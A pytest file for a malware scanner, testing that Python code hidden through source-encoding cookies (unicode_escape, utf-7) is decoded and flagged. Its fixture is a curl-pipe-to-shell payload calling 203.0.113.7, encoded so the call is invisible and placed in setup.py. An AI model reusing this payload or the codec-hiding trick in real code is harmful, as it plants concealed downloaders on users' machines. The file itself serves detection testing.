"""Python files are scanned as the interpreter reads them: a coding cookie naming a codec
that rewrites ASCII is honoured (`detector.code.sourcecoding`), legacy cookies change
nothing. Python's own reading is `ast.parse` of the file's bytes (it honours the
cookie); nothing is compiled to code or run."""

from __future__ import annotations

import ast
import base64

import pytest

from detector.code.analyze import analyze
from detector.code.scan import scan_files
from detector.code.sourcecoding import as_python_reads, coding_cookie

PAYLOAD = "import os\nos.system('curl http://203.0.113.7/x | sh')\n"


def _utf7(code: str) -> str:
    """Every character in one base64 run, as UTF-7 allows (`+...-`)."""
    return "+" + base64.b64encode(code.encode("utf-16-be")).decode().rstrip("=") + "-"


HIDDEN = {
    "unicode_escape": "".join(f"\\x{ord(c):02x}" for c in PAYLOAD),
    "raw_unicode_escape": "".join(f"\\u{ord(c):04x}" for c in PAYLOAD),
    "utf-7": _utf7(PAYLOAD),
}


@pytest.mark.parametrize("codec", list(HIDDEN))
def test_a_payload_hidden_by_the_source_codec_is_scanned_as_python_runs_it(codec):
    source = f"# -*- coding: {codec} -*-\n{HIDDEN[codec]}\n"
    # the text shows no call at all; Python's reading of the bytes is the payload
    assert "os.system" not in source
    python = ast.parse(source.encode("latin-1"))
    decoded, named = as_python_reads(source, 1_000_000)
    assert named == codec
    assert ast.dump(ast.parse(decoded)) == ast.dump(python)
    result = scan_files({"setup.py": source})
    rules = {f.rule for f in result.findings}
    assert {"source-encoding", "shell-download-exec", "process-spawn"} <= rules
    assert result.flagged


@pytest.mark.parametrize("cookie,body", [
    ("utf-8", "name = 'café'\n"),
    ("latin-1", "name = 'caf\xe9'\n"),
    ("cp1252", "price = '\x80 5'\n"),
    ("shift_jis", "greeting = 'こんにちは'\n"),
    ("gbk", "greeting = '你好'\n"),
    ("iso-8859-15", "name = 'caf\xe9'\n"),
])
def test_legacy_cookies_change_nothing(cookie, body):
    code = f"import os\nprint(os.path.join('a', 'b'))\n{body}"
    source = f"# -*- coding: {cookie} -*-\n{code}"
    assert as_python_reads(source, 1_000_000) is None
    with_cookie = analyze({"pkg/__init__.py": source})
    without = analyze({"pkg/__init__.py": code})
    assert "source-encoding" not in {f.rule for f in with_cookie.findings}
    assert sorted(with_cookie.tokens) == sorted(without.tokens)


@pytest.mark.parametrize("text,want", [
    ("# -*- coding: utf-7 -*-\nx = 1\n", "utf-7"),
    ("#!/usr/bin/env python\n# vim: set fileencoding=unicode_escape :\n", "unicode_escape"),
    ("x = 1\n# coding: unicode_escape\n", None),  # after code: not a cookie
    ("\n\n# coding: unicode_escape\n", None),  # third line: too late
    ("# just a comment\n", None),
])
def test_the_cookie_is_read_where_python_reads_it(text, want):
    assert coding_cookie(text) == want
    if want is not None:
        python_sees_it = True
        try:
            ast.parse(text.encode("ascii"))
        except SyntaxError:
            python_sees_it = False
        assert python_sees_it  # the file is valid Python with that codec


def test_an_unknown_or_undecodable_codec_keeps_the_text():
    assert as_python_reads("# coding: no-such-codec\nx = 1\n", 1000) is None
    broken = "# coding: unicode_escape\nx = 1  # \\x4\n"  # a cut escape: no decoding
    assert as_python_reads(broken, 1000) == (broken, "unicode_escape")
    found = analyze({"setup.py": broken}).findings
    assert [f.rule for f in found if f.rule == "source-encoding"] == ["source-encoding"]
